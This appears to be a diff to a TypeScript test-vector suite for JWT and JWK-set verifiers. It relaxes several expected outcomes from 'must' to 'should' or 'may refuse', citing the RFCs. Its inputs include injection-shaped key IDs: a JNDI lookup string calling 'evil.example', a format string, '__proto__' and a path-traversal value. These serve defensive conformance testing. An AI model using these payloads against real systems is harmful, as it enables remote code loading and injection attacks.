@@ -8,7 +8,9 @@ import { certificatePem } from './certificate.ts';
 import { jwkSet, privateKey, publicJwk, publicKey, publicPem, storedKey, type Jwk } from './keys.ts';
 import { hmac, signer, strangeRsa, type Signer } from './sign.ts';
 import { NOW, base64url, claims, compact, header, jwt, jwtBy, jwtWithHeader } from './token.ts';
-import { jwtGroup, must, should, valid, vectorFile, type Group, type Test, type VectorFile } from './vectors.ts';
+import {
+  jwtGroup, mayRefuse, must, should, valid, vectorFile, type Group, type Test, type VectorFile,
+} from './vectors.ts';
 
 const keyed = (kid: unknown, by = 'rsa-1'): string => compact({ alg: 'RS256', kid }, claims(), signer(by, 'RS256'));
 const unnamed = (name: string): Jwk => publicJwk(name, { kid: undefined });
@@ -16,12 +18,13 @@ const named = (name: string, kid: unknown): Jwk => publicJwk(name, { kid });
 const junk = (count: number): Jwk[] => Array.from({ length: count }, () => ({}));
 
 function selectionGroup(): Group {
-  const notFound = (comment: string, kid: unknown): Test => must('key_not_found', comment, keyed(kid), 'C6');
+  // RFC 7515 §4.1.4 calls "kid" a hint: whoever tries the other keys of the set too breaks no rule.
+  const notFound = (comment: string, kid: unknown): Test => should('key_not_found', comment, keyed(kid), 'C6');
   return jwtGroup('A token with a key ID means the key that bears exactly it.', [
     valid('The first of two keys.', keyed('rsa-1')),
     valid('The second of two keys.', keyed('rsa-2', 'rsa-2')),
-    must('signature_invalid', 'The token names the second key and is signed by the first.', keyed('rsa-2'), 'C6'),
-    must('signature_invalid', 'The token names the first key and is signed by the second.', keyed('rsa-1', 'rsa-2'),
+    should('signature_invalid', 'The token names the second key and is signed by the first.', keyed('rsa-2'), 'C6'),
+    should('signature_invalid', 'The token names the first key and is signed by the second.', keyed('rsa-1', 'rsa-2'),
       'C6'),
     notFound('A key ID that no key bears.', 'rsa-3'),
     notFound('A key ID in another case.', 'RSA-1'),
@@ -38,7 +41,7 @@ function selectionGroup(): Group {
 function injectionGroup(): Group {
   const injected = (comment: string, kid: string, by?: Signer): Test => (
     by === undefined
-      ? must('key_not_found', comment, keyed(kid), 'C3')
+      ? should('key_not_found', comment, keyed(kid), 'C3')
       : must('algorithm_not_allowed', comment, compact({ alg: 'HS256', kid }, claims(), by), 'C3')
   );
   const onEveryObject = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'length', 'keys', '0'];
@@ -56,13 +59,13 @@ function injectionGroup(): Group {
     injected('A template for a logger.', '${jndi:ldap://evil.example/a}'),
     injected('A format string.', '%s%s%n'),
     ...onEveryObject.map(
-      (kid) => must('key_not_found', `"${kid}", which some languages find on objects or arrays.`, keyed(kid), 'C5'),
+      (kid) => should('key_not_found', `"${kid}", which some languages find on objects or arrays.`, keyed(kid), 'C5'),
     ),
     valid('A key whose ID is "__proto__" is a key.', keyed('__proto__'), 'C5 Control',
       { keys: jwkSet(named('rsa-1', '__proto__')) }),
     valid('A key whose ID is a path is a key.', keyed('../a b/\u00e9'), 'C3 Control',
       { keys: jwkSet(named('rsa-1', '../a b/\u00e9')) }),
-    must('key_not_found', 'The key ID of the set is composed, that of the token decomposed.', keyed('e\u0301'), 'C6',
+    should('key_not_found', 'The key ID of the set is composed, that of the token decomposed.', keyed('e\u0301'), 'C6',
       { keys: jwkSet(named('rsa-1', '\u00e9'), 'rsa-2') }),
   ], { keys: jwkSet('rsa-1', 'rsa-2') });
 }
@@ -74,22 +77,23 @@ function unnamedGroup(): Group {
   const fifth = publicJwk('rsa-near-roca');
   return jwtGroup('Tokens or keys without a key ID, and key IDs that are borne twice.', [
     valid('A token without a key ID, and one key.', keyed(undefined), 'C6 Control', on('rsa-1')),
-    valid('A token without a key ID, and two keys: the second signed.', keyed(undefined, 'rsa-2'), 'C6 Control',
-      on('rsa-1', 'rsa-2')),
-    valid('A token without a key ID, and four keys: the last signed.', keyed(undefined), 'C6 Control',
-      on(...five.slice(1), five[0] ?? '')),
+    mayRefuse(valid('A token without a key ID, and two keys: the second signed.', keyed(undefined, 'rsa-2'),
+      'C6 Control', on('rsa-1', 'rsa-2'))),
+    mayRefuse(valid('A token without a key ID, and four keys: the last signed.', keyed(undefined), 'C6 Control',
+      on(...five.slice(1), five[0] ?? ''))),
     should('key_unusable', 'A token without a key ID, and five keys: more than will be tried.', keyed(undefined), 'C6',
       on(...five, fifth)),
-    valid('A token without a key ID, and five keys, of which two fit its algorithm.', keyed(undefined, 'rsa-2'),
-      'C6 Control', many),
+    mayRefuse(valid('A token without a key ID, and five keys, of which two fit its algorithm.',
+      keyed(undefined, 'rsa-2'), 'C6 Control', many)),
     must('signature_invalid', 'A token without a key ID, and two keys, neither of which signed.',
       keyed(undefined, 'rsa-4096'), 'C6', on('rsa-1', 'rsa-2')),
-    valid('A token with a key ID, and one key that has none.', keyed('rsa-1'), 'C6 Control', on(unnamed('rsa-1'))),
+    mayRefuse(valid('A token with a key ID, and one key that has none.', keyed('rsa-1'), 'C6 Control',
+      on(unnamed('rsa-1')))),
     should('key_not_found', 'A token with a key ID, and two keys that have none.', keyed('rsa-1'), 'C6',
       on(unnamed('rsa-1'), unnamed('rsa-2'))),
     should('key_not_found', 'A token with a key ID, the key that signed without one, and another with another.',
       keyed('rsa-1'), 'C6', on(unnamed('rsa-1'), 'rsa-2')),
-    must('key_not_found', 'A token with a key ID, and one key that has another, which signed.', keyed('rsa-3'), 'C6',
+    should('key_not_found', 'A token with a key ID, and one key that has another, which signed.', keyed('rsa-3'), 'C6',
       on('rsa-1')),
     should('key_unusable', 'Two keys of one ID and algorithm: the first signed.', keyed('a'), 'C6',
       on(named('rsa-1', 'a'), named('rsa-2', 'a'))),
@@ -102,7 +106,7 @@ function unnamedGroup(): Group {
     should('key_unusable', 'The same key twice, under one ID.', keyed('a'), 'C6',
       on(named('rsa-1', 'a'), named('rsa-1', 'a'))),
     valid('The same key under two IDs.', keyed('b'), 'C6 Control', on(named('rsa-1', 'a'), named('rsa-1', 'b'))),
-    must('key_not_found', 'The key ID of the key is a number, that of the token the same digits.', keyed('1'), 'C4',
+    should('key_not_found', 'The key ID of the key is a number, that of the token the same digits.', keyed('1'), 'C4',
       on(named('rsa-1', 1))),
   ]);
 }
@@ -145,6 +149,8 @@ function shapeGroup(): Group {
   const shaped = (comment: string, keys: unknown): Test => must('key_unusable', comment, jwt(), 'C9', { keys });
   const skipped = (comment: string, ...members: unknown[]): Test => valid(comment, jwt(), 'C9 Control',
     { keys: { keys: [...members, good] } });
+  // RFC 7517 §5: such members SHOULD be ignored. Whoever refuses the set for them may.
+  const mayBeSkipped = (comment: string, ...members: unknown[]): Test => mayRefuse(skipped(comment, ...members));
   return jwtGroup('The shape of a set. Members that cannot be used are left out, and their neighbours stay.', [
     shaped('"keys" is an object.', { keys: { 'rsa-1': good } }),
     shaped('"keys" is a JWK.', { keys: good }),
@@ -155,14 +161,15 @@ function shapeGroup(): Group {
     valid('One JWK.', jwt(), 'C9 Control', { keys: good }),
     valid('A set with members that nobody knows.', jwt(), 'C9 Control',
       { keys: { keys: [good], x: 1, issuer: 'https://evil.example' } }),
-    skipped('A member is null.', null),
-    skipped('Members are strings, numbers, true and an array.', 'x', 1, true, [good]),
-    skipped('A member is an empty object.', {}),
-    skipped('A member of a type that nobody knows.', { kty: 'AKP', alg: 'ML-DSA-44', pub: 'AAAA' }),
-    skipped('A member of a curve that nobody knows.', publicJwk('ec-k1')),
-    skipped('A member that is no point of its curve.', publicJwk('ec-1', { y: publicJwk('ec-1')['x'] })),
+    mayBeSkipped('A member is null.', null),
+    mayBeSkipped('Members are strings, numbers, true and an array.', 'x', 1, true, [good]),
+    mayBeSkipped('A member is an empty object.', {}),
+    mayBeSkipped('A member of a type that nobody knows.', { kty: 'AKP', alg: 'ML-DSA-44', pub: 'AAAA' }),
+    mayBeSkipped('A member of a curve that nobody knows.', publicJwk('ec-k1')),
+    mayBeSkipped('A member that is no point of its curve.', publicJwk('ec-1', { y: publicJwk('ec-1')['x'] })),
     skipped('A member that is too weak.', publicJwk('rsa-1024')),
-    skipped('A member that is weak, and bears the same key ID as a good one.', publicJwk('rsa-1024', { kid: 'rsa-1' })),
+    mayBeSkipped('A member that is weak, and bears the same key ID as a good one.',
+      publicJwk('rsa-1024', { kid: 'rsa-1' })),
     skipped('A member that is a private key.', publicJwk('rsa-2', { d: storedKey('rsa-2').d })),
     skipped('A member for encryption.', publicJwk('rsa-2', { use: 'enc' })),
     must('key_not_found', 'An empty set.', jwt(), 'C9', { keys: { keys: [] } }),
@@ -171,10 +178,10 @@ function shapeGroup(): Group {
       compact(header({ kid: 'rsa-1024' }), claims(), strangeRsa('rsa-1024')), 'C9 B7', { keys: jwkSet('rsa-1024') }),
     should('key_not_found', 'A set whose only member is a private key.', jwt(), 'C9 B12',
       { keys: jwkSet(publicJwk('rsa-1', { d: storedKey('rsa-1').d })) }),
-    must('key_not_found', 'The token names a member that was left out, beside a good one that signed.',
+    should('key_not_found', 'The token names a member that was left out, beside a good one that signed.',
       keyed('rsa-1024'), 'C9',
       { keys: jwkSet('rsa-1024', 'rsa-1') }),
-    valid('256 members, of which one is a key.', jwt(), 'C9 Control', { keys: { keys: [...junk(255), good] } }),
+    mayBeSkipped('256 members, of which one is a key.', ...junk(255)),
     should('key_unusable', '257 members, of which one is a key.', jwt(), 'C9',
       { keys: { keys: [...junk(256), good] } }),
     should('key_unusable', 'A symmetric key beside a public one: the whole set is refused.', jwt(), 'B12',
@@ -206,15 +213,15 @@ function pemGroup(): Group {
       { keys: { 'rsa-1': certificatePem('rsa-1', from, NOW - 1) } }),
     should('key_unusable', 'A certificate, one second before its first.', jwt(), 'Dates',
       { keys: { 'rsa-1': certificatePem('rsa-1', NOW + 1, to) } }),
-    must('key_not_found', 'A certificate under another name.', keyed('rsa-2'), 'C6', { keys: certificate }),
+    should('key_not_found', 'A certificate under another name.', keyed('rsa-2'), 'C6', { keys: certificate }),
     must('signature_invalid', 'A certificate that has another key.', jwt(), 'C6',
       { keys: { 'rsa-1': certificatePem('rsa-2', from, to) } }),
-    must('key_not_found', '"toString" in a map of certificates.', keyed('toString'), 'C5', { keys: certificate }),
-    must('key_not_found', '"__proto__" in a map of certificates.', keyed('__proto__'), 'C5', { keys: certificate }),
+    should('key_not_found', '"toString" in a map of certificates.', keyed('toString'), 'C5', { keys: certificate }),
+    should('key_not_found', '"__proto__" in a map of certificates.', keyed('__proto__'), 'C5', { keys: certificate }),
     valid('A certificate whose name is "constructor".', keyed('constructor'), 'C5 Control',
       { keys: { constructor: certificate['rsa-1'] } }),
-    valid('A map of certificates, one of them unreadable.', jwt(), 'C9 Control',
-      { keys: { ...certificate, x: '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n' } }),
+    mayRefuse(valid('A map of certificates, one of them unreadable.', jwt(), 'C9 Control',
+      { keys: { ...certificate, x: '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n' } })),
     valid('A map of public keys.', jwt(), 'Control', { keys: { 'rsa-1': pem } }),
     valid('A map of public keys, one of them of ECDSA.', jwtBy('ec-1', 'ES256'), 'Control',
       { keys: { 'rsa-1': pem, 'ec-1': publicPem('ec-1') }, ...other }),
